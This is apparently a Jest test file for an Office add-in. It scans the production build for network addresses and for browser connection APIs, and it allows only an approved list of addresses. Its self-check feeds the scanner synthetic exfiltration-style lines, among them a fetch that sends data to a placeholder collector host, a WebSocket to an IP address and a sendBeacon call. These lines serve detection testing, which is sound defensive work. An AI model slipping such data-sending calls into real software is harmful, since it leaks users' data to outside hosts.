/**
 * The add-in talks to no one but Office: the production build (webpack.config.js, dist/addin) is
 * scanned for network addresses — URLs, protocol-relative hosts, IP addresses and host names in
 * string literals — and for the browser APIs that open connections. Each address allowed is listed
 * below with its reason; anything else fails the test.
 *
 * The build scanned is dist/addin when it is a production build for BASE_URL newer than every
 * source it is made from; otherwise (CI, a stale or a development build) the test builds into a
 * temporary folder (webpack --mode production --output-path …), which takes a minute or two: a test
 * build (--env test) unless ZSLEDGER_BASE_URL names the production base. ZSLEDGER_BUNDLE_DIR points
 * it at another build.
 */
import { execFile } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";

const ROOT = path.resolve(__dirname, "..", "..");
const webpackConfig = require("../../webpack.config.js") as {
  OUTPUT_DIR: string;
  DEV_BASE_URL: string;
  TEST_BASE_URL: string;
  productionBaseUrl(value?: string): string;
};

/** The base URL the build puts in the manifest: ZSLEDGER_BASE_URL when set, else the test build's. */
const BASE_URL = process.env.ZSLEDGER_BASE_URL ? webpackConfig.productionBaseUrl() : webpackConfig.TEST_BASE_URL;

/** Every address the shipped files may name, and why. Prefixes of the full URL. */
const ALLOWED: readonly { readonly prefix: string; readonly why: string }[] = [
  { prefix: "https://appsforoffice.microsoft.com/lib/1/hosted/office.js", why: "office.js from Microsoft's CDN: the one script Office add-ins must load" },
  { prefix: "https://appsforoffice.microsoft.com", why: "the same CDN named as a script source in the page's Content-Security-Policy" },
  { prefix: BASE_URL, why: "the add-in's own production origin (ZSLEDGER_BASE_URL): the manifest's icon, page and function URLs" },
  { prefix: "http://schemas.microsoft.com/office/", why: "XML namespace names of the manifest: identifiers, never fetched" },
  { prefix: "http://www.w3.org/2001/XMLSchema-instance", why: "XML namespace name of the manifest (xsi)" },
  { prefix: "http://www.w3.org/2000/svg", why: "SVG namespace React DOM and Fluent's icons create elements in: an identifier, never fetched" },
  { prefix: "http://www.w3.org/1999/xlink", why: "XLink namespace of SVG attributes (React DOM)" },
  { prefix: "http://www.w3.org/1999/xhtml", why: "XHTML namespace (React DOM)" },
  { prefix: "http://www.w3.org/XML/1998/namespace", why: "the xml: namespace (React DOM)" },
  { prefix: "http://www.w3.org/1998/Math/MathML", why: "MathML namespace (React DOM)" },
  { prefix: "https://react.dev/errors/", why: "React's production error messages name their decoder page: text shown, never fetched" },
];

/**
 * Browser APIs that open a connection; the build must use none of them. (navigator.connection,
 * which React reads to estimate bandwidth, opens nothing and is not among them.)
 */
const NETWORK_APIS = /\b(?:fetch\s*\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|RTCPeerConnection|importScripts\s*\()/g;

/** Top-level domains a host name in a string literal could end with (the common ones and China's). */
const TLD = "(?:com|net|org|cn|io|dev|gov|edu|info|app|cloud|co|me|xyz|top|site|online|tech|ai|ru|de|uk|jp|hk|tw|local|localhost|internal|example|invalid)";

export interface Address {
  readonly file: string;
  readonly address: string;
}

/** Every network address in one text: URLs, //host, quoted hosts and IPv4 addresses, localhost. */
export function addressesIn(file: string, text: string): Address[] {
  const found: Address[] = [];
  const add = (address: string) => found.push({ file, address });
  for (const m of text.matchAll(/\b(?:https?|wss?|ftps?):\/\/[^\s"'`<>()\\{}|^,;]+/gi)) add(m[0]);
  // Protocol-relative (//cdn.example.com/x.js) inside a literal or an attribute.
  for (const m of text.matchAll(/["'`(=]\s*(\/\/[a-z0-9-]+(?:\.[a-z0-9-]+)+(?::\d+)?)/gi)) add(m[1]);
  // A quoted host name, alone or with a port or path: "api.example.com", 'cdn.x.cn/a.js'.
  for (const m of text.matchAll(new RegExp(`["'\`]((?:[a-z0-9-]+\\.)+${TLD})(?::\\d+)?(?:/[^"'\`]*)?["'\`]`, "gi"))) add(m[1]);
  // An IPv4 address after // or @, or quoted with a port ("10.0.0.1:8080"). A quoted one alone is
  // indistinguishable from a four-part version number ("1.1.110.0") and is left to the URL forms.
  const ip = "(?:25[0-5]|2[0-4]\\d|1?\\d?\\d)(?:\\.(?:25[0-5]|2[0-4]\\d|1?\\d?\\d)){3}";
  for (const m of text.matchAll(new RegExp(`(?:\\/\\/|@)(${ip})(?![\\d.])|["'\`](${ip}):\\d+`, "g"))) add(m[1] ?? m[2]);
  for (const m of text.matchAll(/\blocalhost\b/gi)) add(m[0]);
  return found;
}

const allowed = (address: string) => ALLOWED.some((a) => address.startsWith(a.prefix));

function networkApis(file: string, text: string): Address[] {
  return [...text.matchAll(NETWORK_APIS)].map((m) => ({ file, address: m[0] }));
}

// ---------------------------------------------------------------------------------------------
// The build

/** Newest modification time below `p` (files only), skipping what webpack does not bundle. */
function newest(p: string): number {
  const stat = fs.statSync(p);
  if (!stat.isDirectory()) return stat.mtimeMs;
  let t = 0;
  for (const name of fs.readdirSync(p)) {
    if (name === "cli" && p.endsWith("src")) continue; // the command line is compiled by tsc, not bundled
    t = Math.max(t, newest(path.join(p, name)));
  }
  return t;
}

function isFreshProductionBuild(dir: string): boolean {
  const page = path.join(dir, "taskpane.html");
  const manifest = path.join(dir, "manifest.xml");
  if (!fs.existsSync(page) || !fs.existsSync(manifest)) return false;
  // A development build keeps the dev server's URL in the manifest; a production build never does.
  if (fs.readFileSync(manifest, "utf8").includes(webpackConfig.DEV_BASE_URL)) return false;
  // Built for another base than the one this run allows.
  if (!fs.readFileSync(manifest, "utf8").includes(BASE_URL)) return false;
  const sources = Math.max(
    newest(path.join(ROOT, "src")),
    ...["webpack.config.js", "manifest.xml", "package.json", "tsconfig.json"].map((f) => fs.statSync(path.join(ROOT, f)).mtimeMs),
  );
  return fs.statSync(page).mtimeMs >= sources;
}

function build(outDir: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const webpack = path.join(ROOT, "node_modules", "webpack-cli", "bin", "cli.js");
    const mode = process.env.ZSLEDGER_BASE_URL ? [] : ["--env", "test"];
    execFile(process.execPath, [webpack, "--mode", "production", ...mode, "--output-path", outDir], { cwd: ROOT, maxBuffer: 64 * 1024 ** 2 }, (error, stdout, stderr) => {
      if (error || !fs.existsSync(path.join(outDir, "taskpane.html"))) reject(new Error(`webpack failed: ${error?.message ?? ""}\n${stdout.slice(-2000)}\n${stderr.slice(-2000)}`));
      else resolve();
    });
  });
}

function filesBelow(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = path.join(dir, e.name);
    return e.isDirectory() ? filesBelow(p) : [p];
  });
}

/** Text the browser or Office reads; images and fonts hold no addresses a scan could read. */
const SCANNED = /\.(?:js|mjs|html|json|xml|txt|css|map)$/i;

let bundleDir: string;
let temporary: string | null = null;
let scanned: { file: string; text: string }[] = [];

beforeAll(async () => {
  const given = process.env.ZSLEDGER_BUNDLE_DIR;
  if (given) bundleDir = path.resolve(given);
  else if (isFreshProductionBuild(webpackConfig.OUTPUT_DIR)) bundleDir = webpackConfig.OUTPUT_DIR;
  else {
    temporary = fs.mkdtempSync(path.join(os.tmpdir(), "zsledger-bundle-"));
    bundleDir = path.join(temporary, "addin");
    await build(bundleDir);
  }
  scanned = filesBelow(bundleDir)
    .filter((f) => SCANNED.test(f))
    .map((f) => ({ file: path.relative(bundleDir, f), text: fs.readFileSync(f, "utf8") }));
}, 900_000);

afterAll(() => {
  if (temporary) fs.rmSync(temporary, { recursive: true, force: true });
});

test("the build ships the page, the scripts and the manifest", () => {
  const names = scanned.map((s) => s.file);
  expect(names).toEqual(expect.arrayContaining(["taskpane.html", "help.html", "boot.js", "manifest.xml", "taskpane.js", "functions.js", "functions.json"]));
  expect(names.filter((n) => n.endsWith(".js")).length).toBeGreaterThan(3);
});

test("no network address other than the allowed ones, in any shipped file", () => {
  const found = scanned.flatMap((s) => addressesIn(s.file, s.text));
  // The scan sees the allowed ones (it is looking), and nothing else.
  expect(found.some((a) => a.address.startsWith("https://appsforoffice.microsoft.com"))).toBe(true);
  expect(found.filter((a) => !allowed(a.address))).toEqual([]);
});

test("no browser API that opens a connection (fetch, XMLHttpRequest, WebSocket, beacons …)", () => {
  expect(scanned.filter((s) => s.file.endsWith(".js")).flatMap((s) => networkApis(s.file, s.text))).toEqual([]);
});

test("the page loads scripts only from itself and office.js from Microsoft's CDN", () => {
  const page = scanned.find((s) => s.file === "taskpane.html")!.text;
  const sources = [...page.matchAll(/<script\b[^>]*\bsrc=["']?([^"'\s>]+)/gi)].map((m) => m[1]);
  expect(sources.length).toBeGreaterThan(1);
  for (const src of sources) expect(src === "https://appsforoffice.microsoft.com/lib/1/hosted/office.js" || !/^[a-z]+:|^\/\//i.test(src)).toBe(true);
});

test("the manifest's URLs are all on the production origin, over https", () => {
  const manifest = scanned.find((s) => s.file === "manifest.xml")!.text.replace(/<!--[\s\S]*?-->/g, "");
  const urls = [...manifest.matchAll(/(?:DefaultValue|Value)="(\w+:\/\/[^"]+)"/g)].map((m) => m[1]);
  expect(urls.length).toBeGreaterThan(3);
  for (const url of urls) expect(url.startsWith(BASE_URL)).toBe(true);
});

describe("the scan itself finds what it must (so that a clean result means something)", () => {
  const hostile = [
    'fetch("https://collect.example.com/t?d="+x)',
    "new WebSocket('wss://10.1.2.3:8443/live')",
    'var u="//cdn.tracker.io/p.js"',
    'const host = "api.zhaoshang-stats.cn";',
    "img.src='http://192.168.0.10/ping'",
    'x="ftp://files.example.org/a"',
    '{url:"http://localhost:8080/"}',
    "navigator.sendBeacon(u, data)",
  ].join("\n");

  test("addresses of every form", () => {
    const found = addressesIn("synthetic.js", hostile).map((a) => a.address);
    for (const expected of ["https://collect.example.com/t?d=", "wss://10.1.2.3:8443/live", "//cdn.tracker.io", "api.zhaoshang-stats.cn", "http://192.168.0.10/ping", "10.1.2.3", "ftp://files.example.org/a", "localhost"]) {
      expect(found).toContain(expected);
    }
    expect(found.filter((a) => !allowed(a))).not.toEqual([]);
  });

  test("connection APIs", () => {
    expect(networkApis("synthetic.js", hostile).map((a) => a.address)).toEqual(["fetch(", "WebSocket", "sendBeacon"]);
  });

  test("and leaves alone what only looks like one: SVG path data, version numbers, property access", () => {
    const benign = '["M14.05 3.49c.28.3.27.77-.04 1.06"],e.info,this.internal,"1.1.110.0",v="4.4.0",x.com.y';
    expect(addressesIn("benign.js", benign)).toEqual([]);
  });
});
